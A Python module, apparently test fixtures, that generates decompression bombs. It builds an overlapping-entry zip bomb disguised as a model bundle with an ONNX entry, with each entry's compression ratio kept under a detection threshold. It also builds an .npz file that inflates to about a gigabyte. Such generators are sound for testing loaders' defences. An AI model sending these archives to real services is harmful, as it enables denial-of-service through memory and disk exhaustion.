"""Hostile inputs that are cheap to send and costly to accept: an archive whose entries
overlap, an .npz that unpacks to far more than it weighs. Built on the fly, never stored."""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np

_LOCAL = struct.Struct("<4s5HLLLHH")
_CENTRAL = struct.Struct("<4s6HLLLHHHHHLL")
_END = struct.Struct("<4s4HLLH")


def _local_header(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return _LOCAL.pack(b"PK\x03\x04", 20, 0, 8, 0, 0, crc, packed, size, len(name), 0) + name


def overlapping_zip(path: Path, model: bytes, entries: int = 100, member_bytes: int = 40_000_000) -> Path:
    """A "quoted overlap" bomb (Fifield, 2019): every entry's deflate stream quotes the next
    entry's local header in a stored block and runs on into one shared kernel, so each entry
    unpacks to about ``member_bytes`` from the same ~200 KB while its own ratio stays under
    200x. The archive also holds ``model`` as an ordinary entry, so it passes as a bundle."""
    rng = np.random.default_rng(0)
    noise = rng.bytes(member_bytes // 250)  # enough incompressible bytes to keep each ratio < 200
    content = noise + bytes(member_bytes - len(noise))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(content) + packer.flush()
    names = [f"w{i:03d}.bin".encode() for i in range(entries)]
    # built from the last entry back: entry i unpacks to the next entry's header + its content
    headers: list[bytes] = [b""] * entries
    sizes, crcs, packed = [0] * entries, [0] * entries, [0] * entries
    sizes[-1], crcs[-1], packed[-1] = len(content), zlib.crc32(content), len(kernel)
    headers[-1] = _local_header(names[-1], crcs[-1], packed[-1], sizes[-1])
    for i in range(entries - 2, -1, -1):
        quoted = headers[i + 1]
        sizes[i] = len(quoted) + sizes[i + 1]
        crcs[i] = zlib.crc32(content, zlib.crc32(b"".join(headers[i + 1 :])))
        packed[i] = 5 + len(quoted) + packed[i + 1]
        headers[i] = _local_header(names[i], crcs[i], packed[i], sizes[i])
    model_name = b"model.onnx"
    body = bytearray(
        _LOCAL.pack(
            b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(model), len(model), len(model), len(model_name), 0
        )
    )
    body += model_name + model
    offsets = []
    for i in range(entries):
        offsets.append(len(body))
        body += headers[i]
        if i < entries - 1:  # a non-final stored block holding the next header's bytes
            length = len(headers[i + 1])
            body += b"\x00" + struct.pack("<HH", length, length ^ 0xFFFF)
    body += kernel
    directory = bytearray()
    entries_meta = [(model_name, 0, zlib.crc32(model), len(model), len(model), 0)]
    entries_meta += [(names[i], 8, crcs[i], packed[i], sizes[i], offsets[i]) for i in range(entries)]
    for name, method, crc, csize, size, offset in entries_meta:
        directory += _CENTRAL.pack(
            b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, csize, size, len(name), 0, 0, 0, 0, 0, offset
        )
        directory += name
    end = _END.pack(b"PK\x05\x06", 0, 0, len(entries_meta), len(entries_meta), len(directory), len(body), 0)
    path.write_bytes(bytes(body) + bytes(directory) + end)
    return path


def npz_bomb(path: Path, unpacked_bytes: int = 1 << 30, samples: int | None = None) -> Path:
    """An .npz holding ``x`` (float32, shaped (N, 64)) of about ``unpacked_bytes``, deflated
    (mostly zeros, so it weighs a few MB), plus matching int64 labels ``y``. Written in chunks:
    building it costs no more memory than one chunk."""
    rows = samples or unpacked_bytes // (64 * 4)
    header = {"descr": "<f4", "fortran_order": False, "shape": (rows, 64)}
    chunk_rows = 1 << 16
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("x.npy", "w", force_zip64=True) as out:
            np.lib.format.write_array_header_2_0(out, header)  # type: ignore[no-untyped-call]
            block = np.zeros((chunk_rows, 64), np.float32)
            block[:, 0] = 1.0
            for start in range(0, rows, chunk_rows):
                out.write(block[: min(chunk_rows, rows - start)].tobytes())
        labels = np.zeros(rows, np.int64)
        labels[::7] = 3
        with archive.open("y.npy", "w", force_zip64=True) as out:
            np.lib.format.write_array(out, labels, allow_pickle=False)  # type: ignore[no-untyped-call]
    return path
